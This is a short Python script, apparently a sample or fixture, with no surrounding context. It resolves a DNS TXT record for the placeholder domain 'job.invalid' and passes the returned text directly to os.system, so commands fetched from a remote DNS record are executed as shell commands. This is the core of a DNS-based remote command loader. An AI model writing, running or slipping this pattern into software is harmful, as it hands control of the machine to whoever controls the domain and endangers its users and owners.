import os

import dns.resolver

os.system(str(dns.resolver.resolve("job.invalid", "TXT")[0]))
